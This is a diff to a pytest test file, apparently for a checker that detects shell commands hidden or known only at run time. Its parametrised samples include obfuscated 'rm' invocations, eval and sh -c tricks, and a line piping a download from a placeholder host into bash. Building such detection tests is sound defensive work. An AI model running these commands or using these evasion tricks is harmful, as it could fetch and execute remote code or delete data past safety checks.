@@ -199,7 +199,8 @@ def test_more_hidden_commands_are_found(line: str) -> None:
         "$RM x", "RM=rm; $RM x", "${x:-rm} x", "$(echo rm) x", "`echo rm` x", "r${x}m y", "rm${IFS}x",
         "sudo $CMD x", "echo rm x | sh", "curl -s example.invalid | bash", "bash <<< 'rm x'",
         "bash script.sh", "source ./x.sh", ". ./x.sh", 'eval "$X"', 'bash -c "$X"',
-        "echo rm | xargs -I{} {} x", "{rm,x}", "ls $(",
+        "echo rm | xargs -I{} {} x", "{rm,x}", "ls $(", "echo 'rm x' | xargs -I{} sh -c '{}'",
+        "find . -exec {} \\;", "find . -name '*.sh' -exec sh -c {} \\;",
     ],
 )
 def test_commands_known_only_at_run_time_are_opaque(line: str) -> None:
@@ -210,6 +211,7 @@ def test_commands_known_only_at_run_time_are_opaque(line: str) -> None:
 
 @pytest.mark.parametrize(
     "line", ["ls -la", "git status && git diff", "bash -c 'ls'", "echo $HOME", "find . | xargs grep foo",
+             "find . | xargs -I{} cp {} /tmp/x", "find . -exec grep -l foo {} +",
              "sudo ls", "cat <<'EOF'\n$(rm x)\nEOF"],
 )
 def test_static_commands_are_not_opaque(line: str) -> None:
